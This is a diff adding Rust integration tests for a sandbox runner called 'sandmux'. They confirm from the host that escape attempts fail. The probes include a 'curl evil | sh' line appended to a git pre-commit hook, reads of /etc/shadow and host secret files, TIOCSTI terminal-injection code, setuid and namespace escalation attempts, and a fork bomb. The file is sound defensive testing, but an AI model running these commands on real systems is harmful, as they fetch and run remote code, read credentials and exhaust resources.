@@ -1,0 +1,306 @@
+//! Attacks from inside `sandmux run`, checked from the host side.
+//! Each test also shows the attack works where the protection does not apply
+//! (a positive control), so a probe cannot pass by failing for another reason.
+
+mod common;
+use common::*;
+use std::io::Read;
+use std::net::TcpListener;
+use std::os::unix::fs::MetadataExt;
+use std::time::Duration;
+
+fn mtime_and_hash(p: &std::path::Path) -> (i64, Vec<u8>) {
+    let m = std::fs::metadata(p).unwrap();
+    (
+        m.mtime_nsec() + m.mtime() * 1_000_000_000,
+        std::fs::read(p).unwrap_or_default(),
+    )
+}
+
+/// Writes outside the workspace fail; host files keep content and mtime.
+#[test]
+fn write_outside_workspace() {
+    let ws = Ws::new();
+    let host = host_dir();
+    let canary = host.path().join("canary.txt");
+    put(&canary, "original");
+    let before = mtime_and_hash(&canary);
+    let etc_probe = format!("/etc/sandmux-escape-{:x}", rand_u64());
+    let script = format!(
+        "echo pwned > {c}; echo pwned > {e}; echo pwned > /usr/sandmux-escape; touch /sandmux-escape; echo ws > inside.txt; echo done",
+        c = canary.display(),
+        e = etc_probe
+    );
+    let o = run_script(&ws, "default", &script);
+    let t = text(&o);
+    assert!(t.contains("done"), "{t}");
+    assert!(
+        t.contains("Read-only file system")
+            || t.contains("Permission denied")
+            || t.contains("No such file"),
+        "{t}"
+    );
+    assert_eq!(mtime_and_hash(&canary), before, "host canary changed");
+    assert!(
+        !std::path::Path::new(&etc_probe).exists(),
+        "{etc_probe} created on the host"
+    );
+    assert!(!std::path::Path::new("/usr/sandmux-escape").exists());
+    assert!(!std::path::Path::new("/sandmux-escape").exists());
+    // Positive control: the same shell could write where the profile allows.
+    assert_eq!(
+        std::fs::read_to_string(ws.join("inside.txt")).unwrap(),
+        "ws\n"
+    );
+}
+
+/// Files outside the profile's view are not there at all; masked files are empty.
+#[test]
+fn read_host_secrets() {
+    let ws = Ws::new();
+    let host = host_dir();
+    let secret = host.path().join("secret.txt");
+    put(&secret, "TOP-SECRET-CANARY-42");
+    let script = format!(
+        "cat {} ; cat /etc/shadow; ls -a /root 2>&1; ls {}; echo end",
+        secret.display(),
+        host.path().display()
+    );
+    let o = run_script(&ws, "default", &script);
+    let t = text(&o);
+    assert!(t.contains("end"), "{t}");
+    assert!(!t.contains("TOP-SECRET-CANARY-42"), "secret read: {t}");
+    assert!(!t.contains("root:"), "/etc/shadow content visible: {t}");
+    // Positive control: the file is readable on the host, and /etc itself is visible inside.
+    assert_eq!(
+        std::fs::read_to_string(&secret).unwrap(),
+        "TOP-SECRET-CANARY-42"
+    );
+    let o = run_script(&ws, "default", "head -c 5 /etc/passwd");
+    assert_eq!(String::from_utf8_lossy(&o.stdout), "root:");
+}
+
+/// E9/E11: protected paths stay read-only inside the writable workspace.
+#[test]
+fn protected_paths_are_read_only() {
+    let ws = Ws::new();
+    put(&ws.join(".git/hooks/pre-commit"), "#!/bin/sh\nexit 0\n");
+    put(&ws.join(".git/config"), "[core]\n");
+    put(&ws.join(".envrc"), "export A=1\n");
+    let hook = mtime_and_hash(&ws.join(".git/hooks/pre-commit"));
+    let config = mtime_and_hash(&ws.join(".git/config"));
+    let envrc = mtime_and_hash(&ws.join(".envrc"));
+    let o = run_script(
+        &ws,
+        "default",
+        "echo 'curl evil | sh' >> .git/hooks/pre-commit; echo x > .git/hooks/post-checkout; \
+         printf '[core]\\n\\thooksPath = /tmp/h\\n' >> .git/config; echo 'eval evil' > .envrc; \
+         rm -f .envrc; mv .git/hooks .git/hooks2; echo ok > .git/HEAD; echo end",
+    );
+    let t = text(&o);
+    assert!(t.contains("end"), "{t}");
+    assert_eq!(mtime_and_hash(&ws.join(".git/hooks/pre-commit")), hook);
+    assert_eq!(mtime_and_hash(&ws.join(".git/config")), config);
+    assert_eq!(mtime_and_hash(&ws.join(".envrc")), envrc);
+    assert!(!ws.join(".git/hooks/post-checkout").exists());
+    assert!(ws.join(".git/hooks").is_dir());
+    // Positive control: the rest of .git is writable.
+    assert_eq!(
+        std::fs::read_to_string(ws.join(".git/HEAD")).unwrap(),
+        "ok\n"
+    );
+}
+
+/// E10: a protected path that is a symlink (planted by an earlier run) makes
+/// start-up fail closed, and nothing on the host is touched.
+#[test]
+fn symlinked_protected_path_refuses_start() {
+    let ws = Ws::new();
+    let host = host_dir();
+    let target = host.path().join("bashrc");
+    put(&target, "original rc\n");
+    let before = mtime_and_hash(&target);
+    std::os::unix::fs::symlink(&target, ws.join(".envrc")).unwrap();
+    let o = run_script(&ws, "default", "echo should-not-run");
+    let t = text(&o);
+    assert_eq!(o.status.code(), Some(3), "{t}");
+    assert!(t.contains(".envrc") && t.contains("symlink"), "{t}");
+    assert!(!t.contains("should-not-run"));
+    assert_eq!(mtime_and_hash(&target), before);
+    let entries: Vec<_> = std::fs::read_dir(ws.path())
+        .unwrap()
+        .flatten()
+        .map(|e| e.file_name())
+        .collect();
+    assert_eq!(
+        entries.len(),
+        1,
+        "artefacts left in the workspace: {entries:?}"
+    );
+}
+
+fn connect_script(port: u16) -> String {
+    format!(
+        "python3 -c \"import socket,sys\ns=socket.socket()\ns.settimeout(2)\ntry:\n  s.connect(('127.0.0.1',{port})); print('CONNECTED')\nexcept OSError as e:\n  print('ERR', e.errno)\""
+    )
+}
+
+fn accepted(l: &TcpListener) -> bool {
+    l.set_nonblocking(true).unwrap();
+    l.accept().is_ok()
+}
+
+/// E20: no network in `none`; `loopback` is the sandbox's own loopback only.
+#[test]
+fn tcp_connect_none_and_loopback() {
+    let ws = Ws::new();
+    let l = TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = l.local_addr().unwrap().port();
+    let o = run_script(&ws, "default", &connect_script(port));
+    assert!(
+        text(&o).contains(&format!("ERR {}", libc::ENETUNREACH)),
+        "{}",
+        text(&o)
+    );
+    let o = run_script(&ws, "ci", &connect_script(port));
+    assert!(
+        text(&o).contains(&format!("ERR {}", libc::ECONNREFUSED)),
+        "{}",
+        text(&o)
+    );
+    assert!(!accepted(&l), "the host listener saw a connection");
+}
+
+/// E22: in `host` mode, TCP connects reach exactly the profile's ports.
+#[test]
+fn tcp_host_mode_port_allowlist() {
+    let ws = Ws::new();
+    let pdir = host_dir();
+    let allowed = TcpListener::bind("127.0.0.1:0").unwrap();
+    let denied = TcpListener::bind("127.0.0.1:0").unwrap();
+    let ap = allowed.local_addr().unwrap().port();
+    let dp = denied.local_addr().unwrap().port();
+    let prof = profile_file(pdir.path(), "hostnet", "dev", |t| {
+        t.replace("connect_tcp = [80, 443]", &format!("connect_tcp = [{ap}]"))
+    });
+    let o = run_script(
+        &ws,
+        prof.to_str().unwrap(),
+        &format!("{}; {}", connect_script(dp), connect_script(ap)),
+    );
+    let t = text(&o);
+    assert!(
+        t.contains(&format!("ERR {}", libc::EACCES)),
+        "denied port not refused: {t}"
+    );
+    assert!(
+        t.contains("CONNECTED"),
+        "allowed port not reached (positive control): {t}"
+    );
+    assert!(
+        !accepted(&denied),
+        "the denied port's listener saw a connection"
+    );
+    assert!(accepted(&allowed));
+}
+
+/// E1: TIOCSTI on every fd (and with high bits set) fails; the harness-owned
+/// pty's input queue stays empty.
+#[test]
+fn tiocsti_injection_refused() {
+    let ws = Ws::new();
+    let pty = nix::pty::openpty(None, None).unwrap();
+    let slave = std::fs::File::from(pty.slave);
+    let script = "python3 -c \"\nimport fcntl,os\nres=[]\nfds=[0,1,2]\ntry:\n  fds.append(os.open('/dev/tty',os.O_RDWR))\nexcept OSError as e:\n  res.append('tty:%d'%e.errno)\nfor fd in fds:\n  for req in (0x5412, 0x5412|(1<<32)):\n    try:\n      fcntl.ioctl(fd, req, b'X'); res.append('INJECTED')\n    except OSError as e:\n      res.append('%d:%d'%(fd,e.errno))\n    except OverflowError:\n      import ctypes; r=ctypes.CDLL(None,use_errno=True).syscall(16, fd, ctypes.c_ulong(req), b'X'); res.append('INJECTED' if r==0 else '%d:%d'%(fd,ctypes.get_errno()))\nprint(' '.join(res))\n\"";
+    let o = sandmux(&[
+        "run",
+        "-w",
+        ws.path().to_str().unwrap(),
+        "--",
+        "bash",
+        "-c",
+        script,
+    ])
+    .stdin(slave.try_clone().unwrap())
+    .stdout(std::process::Stdio::piped())
+    .stderr(std::process::Stdio::piped())
+    .output()
+    .unwrap();
+    let t = text(&o);
+    assert!(!t.contains("INJECTED"), "{t}");
+    assert!(t.contains(&format!("0:{}", libc::EPERM)), "{t}");
+    // Nothing was queued as input on the pty.
+    let fd = std::os::fd::AsRawFd::as_raw_fd(&slave);
+    nix::fcntl::fcntl(
+        &slave,
+        nix::fcntl::FcntlArg::F_SETFL(nix::fcntl::OFlag::O_NONBLOCK),
+    )
+    .unwrap();
+    let mut buf = [0u8; 16];
+    let n = nix::unistd::read(&slave, &mut buf);
+    assert!(
+        matches!(n, Err(nix::errno::Errno::EAGAIN)),
+        "pty input queue holds {n:?} (fd {fd})"
+    );
+}
+
+/// E23: no nested namespaces, no mounts, and setuid binaries do not raise privilege.
+#[test]
+fn namespaces_mounts_and_setuid() {
+    let ws = Ws::new();
+    let o = run_script(
+        &ws,
+        "default",
+        "unshare -Ur true; echo unshare=$?; unshare -m true; echo unshare_m=$?; \
+         python3 -c \"import ctypes,os;l=ctypes.CDLL(None,use_errno=True);print('clone3', l.syscall(435,0,0), ctypes.get_errno())\"; \
+         su -c id root </dev/null; echo su=$?; /usr/bin/passwd -S root; echo passwd=$?; id -u",
+    );
+    let t = text(&o);
+    assert!(t.contains("unshare=1") && t.contains("unshare_m=1"), "{t}");
+    assert!(t.contains("Operation not permitted"), "{t}");
+    assert!(t.contains(&format!("clone3 -1 {}", libc::ENOSYS)), "{t}");
+    assert!(!t.contains("su=0") && !t.contains("uid=0"), "{t}");
+    assert!(
+        String::from_utf8_lossy(&o.stdout)
+            .trim_end()
+            .ends_with("1000"),
+        "{t}"
+    );
+}
+
+/// E27: a fork bomb stays inside the process limit; the host stays responsive
+/// and the supervisor returns.
+#[test]
+fn fork_bomb_is_contained() {
+    let ws = Ws::new();
+    let bomb = "import os,time\npids=[]\nerr=None\nfor i in range(5000):\n  try:\n    p=os.fork()\n  except OSError as e:\n    err=e.errno\n    break\n  if p==0:\n    time.sleep(20)\n    os._exit(0)\n  pids.append(p)\nprint('forked',len(pids),'err',err,'procs',len([d for d in os.listdir('/proc') if d.isdigit()]),flush=True)\nfor p in pids:\n  os.kill(p,9)\n";
+    let child = sandmux(&[
+        "run",
+        "-w",
+        ws.path().to_str().unwrap(),
+        "--",
+        "python3",
+        "-c",
+        bomb,
+    ])
+    .stdout(std::process::Stdio::piped())
+    .stderr(std::process::Stdio::piped())
+    .spawn()
+    .unwrap();
+    // The host keeps answering while it runs.
+    let host = std::process::Command::new("true").status().unwrap();
+    assert!(host.success());
+    let o = child.wait_with_output().unwrap();
+    let t = text(&o);
+    assert!(o.status.success(), "{t}");
+    let words: Vec<&str> = t.split_whitespace().collect();
+    let forked: usize = words[1].parse().unwrap();
+    let procs: usize = words[5].parse().unwrap();
+    assert_eq!(
+        words[3],
+        libc::EAGAIN.to_string(),
+        "fork did not hit the limit: {t}"
+    );
+    assert!(forked > 100 && forked < 512, "{t}");
+    assert!(procs <= 512, "{t}");
+}
